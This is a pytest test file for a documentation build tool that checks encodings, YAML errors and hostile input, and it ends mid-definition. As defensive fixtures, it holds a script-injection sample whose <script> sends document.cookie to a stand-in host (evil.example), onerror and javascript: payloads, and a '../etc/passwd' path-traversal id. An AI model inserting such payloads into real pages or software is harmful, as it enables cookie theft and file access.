"""Issue 6: bad input gets a clear error; nothing is lost, nothing is injected.

Each test builds a small project in a temporary folder (``content_sources/`` with
a curation file, intros and articles, plus this repository's ``mkdocs.yml``,
``scripts/`` and ``docs/assets/``), runs ``curate build`` through the command
line, and, where the class concerns the rendered site, ``mkdocs build --strict``,
then asserts on ``docs/``, ``site/`` and ``site/search/search_index.json``.

Classes: 1 encodings, 2 YAML, 3 headings and anchors, 4 slugs and paths,
5 hostile content, 6 Markdown and template look-alikes, 7 degenerate sources.
Class 8 (Hypothesis properties) is in ``test_properties.py``. The inputs of
``shared/cases/`` are copied in below (``CASES``) so the suite runs without the
shared folder; ``test_case_inputs_match_the_shared_folder`` checks the copies.
"""

from __future__ import annotations

import codecs
import html
import io
import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from curate.cli import main

REPO = Path(__file__).resolve().parents[1]
SHARED_CASES = REPO.parent / "shared" / "cases"
BIN = Path(sys.executable).parent
FILE_NAME = re.compile(r"^[a-z0-9][a-z0-9-]*\.md$")

# The inputs of shared/cases/, byte for byte.
CASES = {
    "01-non-latin-headings/article.md": (
        "---\ntitle: 开源简介\n---\n# 什么是开源\n\nOpen source means anyone may read and change the code.\n\n"
        "# 安全威胁\n\nA leaked model file is a security threat.\n").encode(),
    "02-emoji-headings/article.md": (
        "# Security threat 🚨\n\nWeights leaked within a week.\n\n## 🔥 Related Posts 🔥\n\n"
        "- 😱 You won’t BELIEVE what this model did next!!\n").encode(),
    "03-yaml-hostile-titles/titles.txt": (
        b"Security threat: what a leaked Llama means\n\"Open\" source? Llama's licence explained\n"
        b"What is Llama? #1 explainer\n2024-07-23\n"),
    "04-bom/article.md": codecs.BOM_UTF8 + b"---\ntitle: What is Llama?\n---\n# What is Llama?\n\n"
                                           b"Llama is a family of models.\n",
    "05-crlf/article.md": (b"---\r\ntitle: \"What is open source?\"\r\n---\r\n\r\n# What is open source?\r\n"
                           b"Code anyone can read.\r\n\r\n# Security threat\r\nLeaks happen.\r\n"),
    "06-script-injection/article.txt": (
        b"Security threat\n\nResearchers found a leaked model file. <script>fetch('https://evil.example/?c='"
        b"+document.cookie)</script>\n\n<img src=\"x\" onerror=\"alert(1)\"> See <a href=\"javascript:alert(2)\">"
        b"details</a>.\n\nThe rest of the paragraph must survive.\n"),
    "07-titles-to-file-names/titles.txt": "What is ‘open source’?\nSecurity threat: Llama leak\nWhat is Llama?\n"
                                          "What is Llama!\n".encode(),
}


# --- helpers -----------------------------------------------------------------------------------

def q(text: str) -> str:
    """A YAML double-quoted scalar holding exactly ``text``."""
    return json.dumps(text, ensure_ascii=False)


def page(pid: str, sections=(), title: str | None = None, description: str = "A page about it.",
         **extra) -> dict:
    """One page entry of the curation file (values are quoted unless given as raw YAML in ``yaml``)."""
    return {"id": pid, "title": title if title is not None else pid.replace("-", " ").capitalize(),
            "description": description, "sections": list(sections), **extra}


def curation_yaml(pages, site_title: str = "Test site", site_description: str = "A site built by a test.") -> str:
    lines = ["site:", f"  title: {q(site_title)}", f"  description: {q(site_description)}",
             "pages:" if pages else "pages: []"]
    for p in pages:
        if "yaml" in p:  # raw lines, for tests of how YAML is read
            lines += ["  " + line if i else "  - " + line for i, line in enumerate(p["yaml"].split("\n"))]
            continue
        lines.append(f"  - id: {q(p['id'])}")
        lines.append(f"    title: {q(p['title'])}")
        lines.append(f"    description: {q(p['description'])}")
        if p["sections"]:
            lines.append("    sections: [" + ", ".join(q(s) for s in p["sections"]) + "]")
        for key in ("tags", "terms", "related"):
            if p.get(key):
                lines.append(f"    {key}: [" + ", ".join(q(t) for t in p[key]) + "]")
        if p.get("intro_path"):
            lines.append(f"    intro: {q(p['intro_path'])}")
    return "\n".join(lines) + "\n"


def write_project(root: Path, articles: dict, pages=(), *, curation=None, glossary=None,
                  intros: dict | None = None, **site) -> Path:
    """A project in ``root``: content_sources/ from the arguments, mkdocs.yml, scripts/, docs/assets/.

    Args:
        articles: file name under articles/ → text or bytes (written as given).
        pages: page entries (see :func:`page`); each gets an intro unless ``intros`` names it.
        curation: the whole curation file (text or bytes) instead of one made from ``pages``.
        glossary: the glossary file, if any.
        intros: file name under pages/ → text, in addition to index.md and one per page.
    """
    cs = root / "content_sources"
    (cs / "articles").mkdir(parents=True)
    (cs / "pages").mkdir()
    data = curation if curation is not None else curation_yaml(pages, **site)
    (cs / "curation.yml").write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    if glossary is not None:
        (cs / "glossary.yml").write_text(glossary, encoding="utf-8")
    (cs / "pages" / "index.md").write_text("Welcome to the test site.\n", encoding="utf-8")
    for p in pages:
        if "id" in p and isinstance(p["id"], str) and re.fullmatch(r"[a-z0-9-]+", p["id"]):
            (cs / "pages" / f"{p['id']}.md").write_text("An introduction in the editor's own words.\n",
                                                       encoding="utf-8")
    for name, text in (intros or {}).items():
        (cs / "pages" / name).write_text(text, encoding="utf-8")
    for name, content in articles.items():
        path = cs / "articles" / name
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    shutil.copytree(REPO / "docs" / "assets", root / "docs" / "assets")
    shutil.copytree(REPO / "scripts", root / "scripts", ignore=shutil.ignore_patterns("__pycache__", "bench*"))
    shutil.copytree(REPO / "overrides", root / "overrides")
    shutil.copy2(REPO / "mkdocs.yml", root / "mkdocs.yml")
    return root


def curate(root: Path, *args: str, command: str = "build") -> tuple[int, str, str]:
    """Run ``curate build`` on ``root`` through the CLI; returns (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    code = main([command, "--project", str(root), *args], stdout=out, stderr=err)
    assert "Traceback" not in err.getvalue()
    assert "internal error" not in err.getvalue()
    return code, out.getvalue(), err.getvalue()


def mkdocs(root: Path) -> None:
    """``mkdocs build --strict`` into ``root/site``; fails the test on any warning."""
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    proc = subprocess.run([str(BIN / "mkdocs"), "build", "--strict", "-q", "-f", str(root / "mkdocs.yml"),
                           "-d", str(root / "site")], capture_output=True, text=True, env=env, cwd=root)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def generated(root: Path) -> dict[str, bytes]:
    """docs/-relative path → bytes of every page curate wrote (from the manifest)."""
    manifest = json.loads((root / "docs" / ".curate-manifest.json").read_text(encoding="utf-8"))
    return {p: (root / "docs" / p).read_bytes() for p in manifest["files"]}


def docs_text(root: Path, path: str) -> str:
    return (root / "docs" / path).read_text(encoding="utf-8")


def front_matter(root: Path, path: str) -> dict:
    text = docs_text(root, path)
    assert text.startswith("---\n")
    return yaml.safe_load(text[4:text.index("\n---\n", 4)])


def site_html(root: Path, path: str) -> str:
    """The built HTML of a docs/ page (``sources/x.md`` → ``site/sources/x/index.html``)."""
    stem = path[:-3]
    if stem == "index":
        rel = "index.html"
    elif stem.endswith("/index"):
        rel = stem[: -len("index")] + "index.html"
    else:
        rel = stem + "/index.html"
    return (root / "site" / rel).read_text(encoding="utf-8")


def article(page_html: str) -> str:
    """The page's content: the ``<article>`` element, without the theme around it."""
    m = re.search(r"<article\b.*?</article>", page_html, re.DOTALL)
    assert m, "no <article> in page"
    return m.group()


def text_of(fragment: str) -> str:
    """Visible text of an HTML fragment, whitespace collapsed (the ¶ permalink dropped)."""
    fragment = re.sub(r'<a class="headerlink"[^>]*>.*?</a>', "", fragment, flags=re.DOTALL)
    return re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", "", fragment))).strip()


def element_text(page_html: str, element_id: str) -> str:
    """Text of the element with this id (a ``<p>`` or heading)."""
    m = re.search(rf'<(p|h[1-6])[^>]*\bid="{re.escape(element_id)}"[^>]*>(.*?)</\1>', page_html, re.DOTALL)
    assert m, f"no element with id {element_id!r}"
    return text_of(m.group(2))


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(fragment: str) -> list[tuple[str, dict]]:
    """``(tag, attributes)`` of every element in an HTML fragment, as a browser would parse them."""
    parser = _Elements()
    parser.feed(fragment)
    parser.close()
    return parser.found


def ids(page_html: str) -> list[str]:
    return re.findall(r'\bid="([^"]*)"', page_html)


def search_index(root: Path) -> list[dict]:
    return json.loads((root / "site" / "search" / "search_index.json").read_text(encoding="utf-8"))["docs"]


def searchable(root: Path, location: str, text: str) -> bool:
    """Whether search finds every word of ``text`` on the page at ``location``.

    Source pages are not indexed (their passages are, on the pages that show them), and a long
    section keeps a teaser plus its other words once (curate.mkdocs_output): so a sentence is
    looked for word by word, split as lunr splits it, in the page's text and keywords (a line
    of only punctuation or stop words has no word search could find).
    """
    from curate.mkdocs_output import STOP_WORDS, plain_text, words

    data = json.loads((root / "site" / "search" / "search_index.json").read_text(encoding="utf-8"))
    separator = re.compile(data["config"]["separator"])
    found = {w.lower() for d in data["docs"] if d["location"].split("#")[0] == location
             for w in words(plain_text(d.get("text", "")) + " " + d.get("keywords", ""), separator)}
    wanted = {w.lower() for w in words(html.escape(text, quote=False), separator)} - STOP_WORDS
    return wanted <= found


def nav_links(root: Path, path: str = "index.md") -> list[tuple[str, str]]:
    """``(text, href)`` of every link in a page's primary navigation (the home page's by default)."""
    home = site_html(root, path)
    nav = re.search(r'<nav class="md-nav md-nav--primary".*?</nav>\s*</div>\s*</div>\s*</div>', home, re.DOTALL)
    block = nav.group() if nav else home
    return [(text_of(t), h) for h, t in re.findall(r'<a href="([^"]*)"[^>]*class="md-nav__link[^"]*"[^>]*>(.*?)</a>',
                                                   block, re.DOTALL)]


def markdown_links(root: Path) -> list[tuple[str, str, str]]:
    """``(page, target page, fragment)`` of every relative Markdown link in the generated pages."""
    out = []
    for path, data in generated(root).items():
        for url in re.findall(r"(?<!\\)\]\(([^)\s]+)(?:\s+\"[^\"]*\")?\)", data.decode("utf-8")):
            if re.match(r"^[a-z][a-z0-9+.-]*:", url):
                continue
            target, _, fragment = url.partition("#")
            target = os.path.normpath(os.path.join(os.path.dirname(path), target)) if target else path
            out.append((path, target.replace(os.sep, "/"), fragment))
    return out


def assert_generated_output_is_clean(root: Path) -> None:
    """Every generated file: valid UTF-8, LF only, no BOM, no U+FFFD, a safe file name."""
    for path, data in generated(root).items():
        text = data.decode("utf-8")  # raises on invalid UTF-8
        assert "\r" not in text and "\ufeff" not in text and "\ufffd" not in text, path
        for part in path.split("/"):
            assert part == "sources" or FILE_NAME.match(part), path


def assert_links_resolve(root: Path) -> None:
    """Every fragment curate writes is an id MkDocs rendered on the target page."""
    checked = 0
    for page_path, target, fragment in markdown_links(root):
        assert (root / "docs" / target).is_file(), (page_path, target)
        if fragment:
            assert fragment in ids(site_html(root, target)), (page_path, target, fragment)
            checked += 1
    assert checked > 0


def assert_no_duplicate_or_positional_ids(root: Path) -> None:
    for path in generated(root):
        page_ids = ids(site_html(root, path))
        dupes = sorted({i for i in page_ids if page_ids.count(i) > 1})
        assert dupes == [], (path, dupes)
        content_ids = ids(article(site_html(root, path)))
        assert [i for i in content_ids if re.search(r"_\d+$", i)] == [], path


LEAD = "Llama is a family of large language models from Meta."


# =============================================================================================
# 0. the shared cases are the ones copied in here
# =============================================================================================

@pytest.mark.parametrize("name", sorted(CASES))
def test_case_inputs_match_the_shared_folder(name):
    path = SHARED_CASES / name
    if not path.exists():
        pytest.skip("shared/cases is not beside this checkout")
    assert path.read_bytes() == CASES[name]


# =============================================================================================
# 1. encodings
# =============================================================================================

TWIN_TEXT = ("What is Llama?\n\nMeta’s “open” licence – explained — for café owners.\n\n"
             "Security threat\n\nLeaks happen.\n")
TWIN_META = "title: What is Llama?\npublished: 2024-08\n"


def _twin(tmp_path: Path, name: str, data: bytes, meta: str = TWIN_META) -> tuple[Path, int, str]:
    root = write_project(tmp_path / name, {"art.txt": data, "art.meta.yml": meta},
                         [page("page-one", ["art"], "Page one")])
    code, _, err = curate(root)
    return root, code, err


ENCODED_TWINS = {
    "utf-8 with a byte-order mark": codecs.BOM_UTF8 + TWIN_TEXT.encode("utf-8"),
    "windows line endings": TWIN_TEXT.replace("\n", "\r\n").encode("utf-8"),
    "old mac line endings": TWIN_TEXT.replace("\n", "\r").encode("utf-8"),
    "bom and crlf": codecs.BOM_UTF8 + TWIN_TEXT.replace("\n", "\r\n").encode("utf-8"),
    "utf-16 le with bom": codecs.BOM_UTF16_LE + TWIN_TEXT.encode("utf-16-le"),
    "utf-16 be with bom": codecs.BOM_UTF16_BE + TWIN_TEXT.encode("utf-16-be"),
    "utf-32 le with bom": codecs.BOM_UTF32_LE + TWIN_TEXT.encode("utf-32-le"),
    "windows-1252": TWIN_TEXT.encode("cp1252"),
    "decomposed accents (nfd)": __import__("unicodedata").normalize("NFD", TWIN_TEXT).encode("utf-8"),
}


@pytest.mark.parametrize("kind", sorted(ENCODED_TWINS))
def test_every_encoding_gives_docs_byte_identical_to_the_utf8_twin(tmp_path, kind):
    plain, code, _ = _twin(tmp_path, "plain", TWIN_TEXT.encode("utf-8"))
    assert code == 0
    other, code, err = _twin(tmp_path, "other", ENCODED_TWINS[kind])
    assert code == 0, err
    assert generated(other) == generated(plain)
    assert "Meta’s “open” licence – explained — for café owners." in docs_text(other, "sources/art.md")
    assert_generated_output_is_clean(other)


def test_windows_1252_is_read_with_a_warning_naming_file_line_and_byte(tmp_path):
    data = TWIN_TEXT.encode("cp1252")
    _, code, err = _twin(tmp_path, "cp", data)
    assert code == 0
    offset = data.index(b"\x92")
    assert (f"warning: content_sources/articles/art.txt:3: not valid UTF-8 (byte 0x92 at byte offset {offset}); "
            "read as Windows-1252\n    hint: save the file as UTF-8, or add 'encoding: windows-1252' to its "
            "metadata") in err


def test_latin_1_bytes_are_read_as_windows_1252(tmp_path):
    root, code, err = _twin(tmp_path, "latin", "What is Llama?\n\nA café in Zürich, naïve and façade.\n"
                            .encode("latin-1"))
    assert code == 0
    assert "A café in Zürich, naïve and façade." in docs_text(root, "sources/art.md")
    assert "content_sources/articles/art.txt:3: not valid UTF-8 (byte 0xE9 at byte offset 21)" in err


def test_latin_1_file_ending_in_an_accent_is_not_mistaken_for_truncated_utf8(tmp_path):
    root, code, err = _twin(tmp_path, "latin-end", "What is Llama?\n\nWe met\nat the café".encode("latin-1"))
    assert code == 0, err
    assert "We met at the café" in docs_text(root, "sources/art.md")
    assert "looks truncated" not in err


def test_declared_encoding_wins_and_latin_1_means_windows_1252(tmp_path):
    data = "What is Llama?\n\nIt’s “quoted” in Windows-1252.\n".encode("cp1252")
    root, code, err = _twin(tmp_path, "declared", data, TWIN_META + "encoding: latin-1\n")
    assert code == 0
    assert "It’s “quoted” in Windows-1252." in docs_text(root, "sources/art.md")
    assert "not valid UTF-8" not in err  # declared: nothing to warn about


BAD_BYTES = {
    "nul byte": (b"What is Llama?\n\nText\x00more\n", "",
                 "content_sources/articles/art.txt:3: NUL byte at byte offset 20: the file looks binary or truncated\n"
                 "    hint: check that this is the text file you meant to add; save it as UTF-8"),
    "damaged utf-8": ("What is Llama?\n\nMeta’s “open” model\n".encode() + b"bad \xff byte\n", "",
                      "content_sources/articles/art.txt:4: not valid UTF-8 at byte offset 46 (byte 0xFF), though the "
                      "rest of the file is UTF-8: the file is damaged\n    hint: save the file again as UTF-8 from "
                      "the original, or name its encoding with 'encoding:' in its metadata"),
    "neither utf-8 nor windows-1252": (b"What is Llama?\n\nCaf\xe9 \x81 here\n", "",
                                       "content_sources/articles/art.txt:3: not valid UTF-8 at byte offset 19 (byte "
                                       "0xE9), and byte 0x81 at byte offset 21 rules out Windows-1252: the encoding "
                                       "cannot be decided"),
    "truncated utf-8": ("What is Llama?\n\nMeta’".encode()[:-1], "",
                        "content_sources/articles/art.txt:3: the file ends in the middle of a UTF-8 character (byte "
                        "offset 20): it looks truncated"),
    "utf-16 without a byte-order mark": ("What is Llama?\n\nText.\n".encode("utf-16-le"), "",
                                         "content_sources/articles/art.txt:1: NUL byte at byte offset 1: the file "
                                         "looks like UTF-16 (little-endian) without a byte-order mark\n    hint: save "
                                         "the file as UTF-8, or add 'encoding: utf-16-le' to its metadata"),
    "declared encoding does not fit": (b"What is Llama?\n\n\xff\xfe\n", "encoding: utf-8\n",
                                       "content_sources/articles/art.txt:3: not valid utf-8 at byte offset 16 "
                                       "(byte 0xFF: invalid start byte)"),
    "unknown declared encoding": (b"What is Llama?\n\nText.\n", "encoding: klingon\n",
                                  "content_sources/articles/art.meta.yml:3: encoding: unknown encoding 'klingon'\n"
                                  "    hint: use a common name: utf-8, utf-16, windows-1252, latin-1"),
}


@pytest.mark.parametrize("kind", sorted(BAD_BYTES))
def test_undecodable_bytes_stop_the_build_naming_file_line_and_byte_offset(tmp_path, kind):
    data, meta, message = BAD_BYTES[kind]
    root, code, _ = _twin(tmp_path, "good", TWIN_TEXT.encode())
    assert code == 0
    before = snapshot(root / "docs")
    (root / "content_sources" / "articles" / "art.txt").write_bytes(data)
    (root / "content_sources" / "articles" / "art.meta.yml").write_text(TWIN_META + meta, encoding="utf-8")
    code, _, err = curate(root)
    assert code == 1
    assert "curate build: 1 error; docs/ was not changed" in err
    assert message in err
    assert snapshot(root / "docs") == before  # nothing half-written


def test_mojibake_in_utf8_is_repaired_with_a_warning_naming_the_line(tmp_path):
    broken = "What is Llama?\n\nMeta’s ‘open’ model is free.\n".encode().decode("cp1252").encode("utf-8")
    assert "â€™" in broken.decode()
    root, code, err = _twin(tmp_path, "moji", broken)
    assert code == 0
    page_text = docs_text(root, "sources/art.md")
    assert "Meta’s ‘open’ model is free." in page_text
    assert "â€" not in page_text and "Ã" not in page_text
    assert ("warning: content_sources/articles/art.txt:3: mojibake repaired: 'Metaâ€™s' read as 'Meta’s' (text "
            "that went through a wrong encoding before it arrived)") in err


def test_replacement_characters_and_control_characters_never_reach_docs(tmp_path):
    text = "What is Llama?\n\nA broken \ufffd character, a zero\u200bwidth space and a bell\x07.\n"
    root, code, err = _twin(tmp_path, "fffd", text.encode())
    assert code == 0
    assert "A broken character, a zerowidth space and a bell." in docs_text(root, "sources/art.md")
    assert ("content_sources/articles/art.txt:3: U+FFFD replacement character: some text was already lost when "
            "the file was converted before it arrived; the character is left out") in err
    assert_generated_output_is_clean(root)


def test_curation_file_in_windows_1252_keeps_its_titles(tmp_path):
    curation = curation_yaml([page("page-one", [], "Café “open” models")]).encode("cp1252")
    root = write_project(tmp_path, {}, [page("page-one")], curation=curation)
    code, _, err = curate(root)
    assert code == 0
    assert front_matter(root, "page-one.md")["title"] == "Café “open” models"
    assert "warning: content_sources/curation.yml:6: not valid UTF-8" in err


def test_case_04_bom_is_dropped_and_docs_match_the_twin_without_it(tmp_path):
    with_bom = write_project(tmp_path / "bom", {"art.md": CASES["04-bom/article.md"]}, [page("p", ["art"])])
    without = write_project(tmp_path / "plain", {"art.md": CASES["04-bom/article.md"][3:]}, [page("p", ["art"])])
    assert curate(with_bom)[0] == 0 and curate(without)[0] == 0
    assert generated(with_bom) == generated(without)
    assert front_matter(with_bom, "sources/art.md")["title"] == "What is Llama?"
    for path, data in generated(with_bom).items():
        assert "\ufeff" not in data.decode("utf-8") and "\ufeff" not in path


def test_case_05_crlf_gives_the_same_docs_as_the_lf_twin(tmp_path):
    crlf = write_project(tmp_path / "crlf", {"art.md": CASES["05-crlf/article.md"]}, [page("p", ["art"])])
    lf = write_project(tmp_path / "lf", {"art.md": CASES["05-crlf/article.md"].replace(b"\r\n", b"\n")},
                       [page("p", ["art"])])
    assert curate(crlf)[0] == 0 and curate(lf)[0] == 0
    assert generated(crlf) == generated(lf)
    assert front_matter(crlf, "sources/art.md")["title"] == "What is open source?"
    manifest = (crlf / "docs" / ".curate-manifest.json").read_bytes()
    assert b"\r" not in manifest and all(b"\r" not in d for d in generated(crlf).values())
    assert "## Security threat { #security-threat }" in docs_text(crlf, "sources/art.md")


# =============================================================================================
# 2. YAML
# =============================================================================================

HOSTILE_TITLES = [line for line in CASES["03-yaml-hostile-titles/titles.txt"].decode().split("\n") if line] + [
    "1.0", "no", "~", "- dash first", "* star first", "#hash first", "'single' and \"double\" quotes",
    "<b>bold</b> & <i>co</i>", "{{ page.title }} {% raw %}", "a = b ~ c ^ d $e", "null",
]


@pytest.fixture(scope="module")
def titles_site(tmp_path_factory) -> Path:
    """Pages titled (and described) with every hostile title, built with MkDocs."""
    root = tmp_path_factory.mktemp("titles") / "project"
    pages = [page(f"title-{i}", [], t, description=f"About {t}") for i, t in enumerate(HOSTILE_TITLES)]
    write_project(root, {"dated.txt": "Some title\n\nA dated article.\n",
                         "dated.meta.yml": 'title: "2024-07-23"\npublished: 2024-07\n'}, pages)
    assert curate(root)[0] == 0
    mkdocs(root)
    return root


@pytest.mark.parametrize("i", range(len(HOSTILE_TITLES)))
def test_titles_reach_front_matter_nav_title_heading_and_search_exactly(titles_site, i):
    title, path = HOSTILE_TITLES[i], f"title-{i}.md"
    fm = front_matter(titles_site, path)
    # written HTML-safe (& < > " as entities), as the renderers put them into HTML as they are
    assert html.unescape(fm["title"]) == title and html.unescape(fm["description"]) == f"About {title}"
    assert isinstance(fm["title"], str) and "<" not in fm["title"] + fm["description"]
    page_html = site_html(titles_site, path)
    assert text_of(re.search(r"<title>(.*?)</title>", page_html, re.DOTALL).group(1)) == \
        f"{title} - Open-source AI, explained"
    assert text_of(re.search(r"<h1[^>]*>(.*?)</h1>", page_html, re.DOTALL).group(1)) == title
    assert (title, f"title-{i}/") in nav_links(titles_site)
    description = re.search(r'<meta name="description" content="([^"]*)">', page_html).group(1)
    assert html.unescape(description) == f"About {title}"
    entry = next(d for d in search_index(titles_site) if d["location"] == f"title-{i}/")
    assert html.unescape(entry["title"]) == title
    assert "title:" not in text_of(article(page_html)).replace(title, "")


def test_titles_never_become_markup_in_the_site(titles_site):
    for i, _title in enumerate(HOSTILE_TITLES):
        page_html = site_html(titles_site, f"title-{i}.md")
        assert "<b>bold</b>" not in page_html and "<i>co</i>" not in page_html
    home = (titles_site / "site" / "index.html").read_text(encoding="utf-8")
    assert "&lt;b&gt;bold&lt;/b&gt; &amp; &lt;i&gt;co&lt;/i&gt;" in home


def test_date_like_source_title_stays_a_string(titles_site):
    fm = front_matter(titles_site, "sources/dated.md")
    assert fm["title"] == "2024-07-23" and isinstance(fm["title"], str)
    assert ("2024-07-23", "./") in nav_links(titles_site, "sources/dated.md")


def _curation_error(tmp_path: Path, curation: str) -> str:
    root = write_project(tmp_path, {}, [page("page-one")], curation=curation)
    code, _, err = curate(root)
    assert code == 1
    assert "docs/ was not changed" in err
    assert not (root / "docs" / "index.md").exists()
    return err


def _one_page(title_line: str, extra: str = "") -> str:
    return ("site:\n  title: Test site\n  description: A test.\npages:\n  - id: page-one\n"
            f"    {title_line}\n    description: A page.\n{extra}")


UNQUOTED = {
    "colon": ("title: Security threat: what a leaked Llama means",
              "content_sources/curation.yml:6: invalid YAML: mapping values are not allowed here (in the value of "
              "'title')\n    hint: put the value in quotes: text holding ': ' must be quoted"),
    "hash": ("title: What is Llama? #1 explainer",
             "content_sources/curation.yml:6: pages[0].title: the text after ' #' is read as a YAML comment, so the "
             "value would be 'What is Llama?'\n    hint: put the whole value in quotes: "
             "title: \"What is Llama? #1 explainer\"; or, if it is a comment, put it on a line of its own"),
    "leading dash": ("title: - the dash first",
                     "content_sources/curation.yml:6: invalid YAML: sequence entries are not allowed here (in the "
                     "value of 'title')\n    hint: put the value in quotes: text starting with '- ' must be quoted"),
    "leading star": ("title: *star first",
                     "content_sources/curation.yml:6: pages[0].title: '*star' makes the value an alias in YAML (a copy "
                     "of a value marked '&'); aliases are not allowed\n    hint: put the whole value in quotes: "
                     "title: \"*star first\""),
    "leading ampersand": ("title: &amp first",
                          "content_sources/curation.yml:6: pages[0].title: '&amp' makes the value an anchor in YAML, "
                          "so it would read 'first'\n    hint: put the whole value in quotes: title: \"&amp first\""),
    "leading exclamation": ("title: !important news",
                            "content_sources/curation.yml:6: pages[0].title: '!important' makes the value a tag in "
                            "YAML, so it would read 'news'"),
    "leading at sign": ("title: @meta on Llama",
                        "content_sources/curation.yml:6: invalid YAML: found character '@' that cannot start any "
                        "token (in the value of 'title')\n    hint: put the value in quotes: text starting with '@' "
                        "must be quoted"),
    "unclosed quote": ('title: "What is Llama?',
                       "invalid YAML: found unexpected end of stream\n    hint: a quotation mark or bracket is not "
                       "closed"),
}


@pytest.mark.parametrize("kind", sorted(UNQUOTED))
def test_unquoted_hostile_title_is_an_error_with_line_key_and_hint(tmp_path, kind):
    line, message = UNQUOTED[kind]
    assert message in _curation_error(tmp_path, _one_page(line))


def test_values_that_look_like_dates_numbers_or_booleans_stay_text(tmp_path):
    root = write_project(tmp_path, {}, [], curation=(
        "site:\n  title: no\n  description: 1.0\npages:\n  - id: page-one\n    title: 2024-07-23\n"
        "    description: yes\n    tags: [no, 1.0, 2024-07-23, true]\n    group: 3.14\n"))
    (root / "content_sources" / "pages" / "page-one.md").write_text("Intro.\n", encoding="utf-8")
    assert curate(root)[0] == 0
    fm = front_matter(root, "page-one.md")
    assert (fm["title"], fm["description"], fm["tags"]) == ("2024-07-23", "yes", ["no", "1.0", "2024-07-23", "true"])
    assert "title" not in front_matter(root, "index.md")  # the home page's tab title is the site name
    assert "\n# no\n" in (root / "docs" / "index.md").read_text(encoding="utf-8")
    assert front_matter(root, "index.md")["description"] == "1.0"
    nav = json.loads((root / "docs" / ".curate-manifest.json").read_text())["nav"]
    assert {"3.14": [{"2024-07-23": "page-one.md"}]} in nav


def test_duplicate_keys_name_both_lines(tmp_path):
    err = _curation_error(tmp_path, _one_page("title: First\n    title: Second"))
    assert ("content_sources/curation.yml:7: pages[0].title: duplicate key (first given on line 6)\n"
            "    hint: remove one of the two") in err


def test_unknown_keys_say_did_you_mean(tmp_path):
    err = _curation_error(tmp_path, _one_page("title: A page", "    tilte: typo\n    sectons: [a]\n"))
    assert "content_sources/curation.yml:8: pages[0].tilte: unknown key\n    hint: did you mean 'title'?" in err
    assert "content_sources/curation.yml:9: pages[0].sectons: unknown key\n    hint: did you mean 'sections'?" in err


def test_tab_indentation_is_named_with_its_line(tmp_path):
    err = _curation_error(tmp_path, _one_page("title: A page").replace("    description", "\tdescription"))
    assert ("content_sources/curation.yml:7: a tab is used for indentation\n    hint: YAML allows only spaces for "
            "indentation; replace the tab with spaces") in err


def test_tab_inside_an_unquoted_value_is_named(tmp_path):
    err = _curation_error(tmp_path, _one_page("title: What\tis Llama"))
    assert ("content_sources/curation.yml:6: invalid YAML: found character '\\t' that cannot start any token (in "
            "the value of 'title')\n    hint: replace the tab with spaces: YAML allows no tab here") in err


WRONG_TYPES = {
    "list for text": ("title: [What, is, Llama]",
                      "content_sources/curation.yml:6: pages[0].title: expected text, found a list\n"
                      "    hint: quote the value if it is meant to be text"),
    "empty title": ("title:", "content_sources/curation.yml:6: pages[0].title: expected text, found nothing"),
    "several lines": ("title: |\n      one\n      two",
                      "content_sources/curation.yml:6: pages[0].title: expected one line of text, found several"),
    "scalar for a list": ("title: A page\n    tags: security",
                          "content_sources/curation.yml:7: pages[0].tags: expected a list, found the value "
                          "'security'\n    hint: write it as a list: [security]"),
    "not a date": ("title: A page\n    reviewed: last week",
                   "content_sources/curation.yml:7: pages[0].reviewed: 'last week' is not a date of the form YYYY, "
                   "YYYY-MM or YYYY-MM-DD\n    hint: write the date as 2024-08 or 2024-08-15"),
    "impossible date": ("title: A page\n    reviewed: 2024-02-30",
                        "content_sources/curation.yml:7: pages[0].reviewed: '2024-02-30' is not a real date (day is "
                        "out of range for month)"),
    "line separator": ('title: "What is\\u2028Llama"',
                       "content_sources/curation.yml:6: pages[0].title: holds a line separator (U+2028)"),
    "control character": ('title: "What is\\x07Llama"',
                          "content_sources/curation.yml:6: pages[0].title: holds an invisible control character "
                          "(U+0007)\n    hint: retype the value"),
    "replacement character": ('title: "What is \ufffd Llama"',
                              "content_sources/curation.yml:6: pages[0].title: holds U+FFFD, the replacement "
                              "character: the text was damaged before it arrived"),
}


@pytest.mark.parametrize("kind", sorted(WRONG_TYPES))
def test_wrong_types_are_named_with_file_line_and_key(tmp_path, kind):
    line, message = WRONG_TYPES[kind]
    assert message in _curation_error(tmp_path, _one_page(line))


def test_raw_control_character_in_yaml_is_named_with_its_line(tmp_path):
    err = _curation_error(tmp_path, _one_page("title: What\x07is"))
    assert ("content_sources/curation.yml:6: invalid YAML: the invisible control character U+0007 is not allowed "
            "(in the value of 'title')\n    hint: remove it; the file may be damaged") in err


def test_every_problem_is_reported_at_once(tmp_path):
    curation = ("site:\n  title: Test site\n  description: A test.\npages:\n"
                "  - id: ../etc/passwd\n    title: One\n    description: A page.\n"
                "  - id: two\n    title: [Two]\n    description: A page.\n    tilte: x\n")
    err = _curation_error(tmp_path, curation)
    assert "curate build: 4 errors; docs/ was not changed" in err
    assert "content_sources/pages/two.md: intro file is missing" in err
    assert "content_sources/curation.yml:5: pages[0].id:" in err
    assert "content_sources/curation.yml:9: pages[1].title: expected text, found a list" in err
    assert "content_sources/curation.yml:11: pages[1].tilte: unknown key" in err


FRONT_MATTER_ERRORS = {
    "duplicate key": ("---\ntitle: One\ntitle: Two\n---\n# One\n\nText.\n",
                      "content_sources/articles/art.md:3: title: duplicate key (first given on line 2)"),
    "unknown key": ("---\ntitle: One\npublishd: 2024-08\n---\nText.\n",
                    "content_sources/articles/art.md:3: publishd: unknown key\n    hint: did you mean 'published'?"),
    "colon in title": ("---\ntitle: Llama: a model\n---\nText.\n",
                       "content_sources/articles/art.md:2: invalid YAML: mapping values are not allowed here (in the "
                       "value of 'title')"),
